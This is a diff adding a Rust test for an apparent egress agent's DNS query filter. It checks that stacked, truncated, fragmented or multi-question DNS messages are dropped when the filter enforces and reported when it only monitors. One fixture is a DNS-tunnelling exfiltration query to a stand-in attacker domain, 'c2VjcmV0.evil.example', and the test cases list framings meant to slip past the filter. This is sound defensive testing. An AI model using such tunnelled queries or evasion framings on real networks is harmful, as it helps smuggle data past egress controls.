@@ -159,3 +159,52 @@ fn with_the_lease_run_out_every_query_is_refused() {
     let (ret, out) = run(&mut dp, &ok);
     assert_eq!((ret, out), (PASS, ok), "forwarded unchanged once the agent is back");
 }
+
+/// What goes to a resolver's port 53 but is not one whole, readable query
+/// cannot have its name checked. With the query filter enforcing it is
+/// dropped (else a split or stacked message would tunnel past the filter);
+/// monitoring, it is forwarded and reported as would-refuse. A TCP segment
+/// without payload (the handshake) is no query and passes.
+#[test]
+fn what_the_filter_cannot_read_is_dropped_when_it_enforces() {
+    use egress_agent::testkit::dnsmsg::tcp_framed;
+    let workload = ip("10.10.1.10");
+    let resolver = ip("10.10.0.2");
+    let sanctioned = Message::query(1, "api.openai.com", 1).to_bytes();
+    let tunnel = Message::query(2, "c2VjcmV0.evil.example", 16).to_bytes();
+    let stacked = [tcp_framed(&sanctioned), tcp_framed(&tunnel)].concat();
+    let mut two_questions = Message::query(3, "api.openai.com", 1).to_bytes();
+    two_questions[5] = 2; // QDCOUNT 2
+    let cut_name = sanctioned[..16].to_vec();
+    let mut first_fragment = Spec::udp(workload, resolver, 5004, 53).with_payload(tunnel[..20].to_vec());
+    first_fragment.ipv4_frag = Some((0, true, 77));
+    let cases: Vec<(&str, Vec<u8>)> = vec![
+        ("two queries in one TCP segment", Spec::tcp(workload, resolver, 5010, 53).with_payload(stacked).build()),
+        ("a TCP segment with only the length", Spec::tcp(workload, resolver, 5011, 53).with_payload(tcp_framed(&tunnel)[..2].to_vec()).build()),
+        ("a TCP segment with half a query", Spec::tcp(workload, resolver, 5012, 53).with_payload(tcp_framed(&tunnel)[..20].to_vec()).build()),
+        ("two questions", Spec::udp(workload, resolver, 5013, 53).with_payload(two_questions).build()),
+        ("a name cut short", Spec::udp(workload, resolver, 5014, 53).with_payload(cut_name).build()),
+        ("a first fragment", first_fragment.build()),
+    ];
+    let mut dp = loaded();
+    for (what, frame) in &cases {
+        let before = dp.dns_stats().expect("stats");
+        assert_eq!(run(&mut dp, frame).0, 2, "{what}: dropped (TC_ACT_SHOT)");
+        let after = dp.dns_stats().expect("stats");
+        assert_eq!(after[DnsStat::QueryRefused as usize], before[DnsStat::QueryRefused as usize] + 1, "{what}: counted as refused");
+        assert_eq!(after[DnsStat::QueryTracked as usize], before[DnsStat::QueryTracked as usize], "{what}: not recorded");
+    }
+    let mut handshake = Spec::tcp(workload, resolver, 5020, 53);
+    handshake.payload = 0; // a SYN
+    let handshake = handshake.build();
+    assert_eq!(run(&mut dp, &handshake).0, PASS, "the TCP handshake passes");
+
+    let monitoring = load_sources(&[("m.yaml".into(), PACK.replace("query_filter: enforce", "query_filter: monitor"))]).expect("pack");
+    dp.install(compile(&monitoring).expect("compiles")).expect("installs");
+    for (what, frame) in &cases {
+        let before = dp.dns_stats().expect("stats");
+        assert_eq!(run(&mut dp, frame).0, PASS, "{what}: monitoring, forwarded");
+        let after = dp.dns_stats().expect("stats");
+        assert_eq!(after[DnsStat::QueryWouldRefuse as usize], before[DnsStat::QueryWouldRefuse as usize] + 1, "{what}: reported");
+    }
+}
